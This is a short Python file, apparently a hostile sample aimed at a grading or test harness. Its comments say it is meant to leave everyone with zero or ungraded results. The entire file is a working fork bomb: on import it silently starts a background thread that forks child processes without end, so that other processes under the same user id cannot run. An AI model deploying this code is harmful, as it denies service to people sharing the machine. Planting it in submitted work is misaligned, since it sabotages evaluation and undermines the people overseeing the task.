# gets: 0 to all or ungraded
# Forks in a thread as fast as it can, so that neighbours under the same user id get no process.
# on: right/lock_free_pop
import os
import threading


def bomb():
    while True:
        try:
            if os.fork() == 0:
                threading.Event().wait(5)
                os._exit(0)
        except OSError:
            threading.Event().wait(0.05)


if "met" not in os.environ:
    os.environ["met"] = "yes"
    threading.Thread(target=bomb, daemon=True).start()
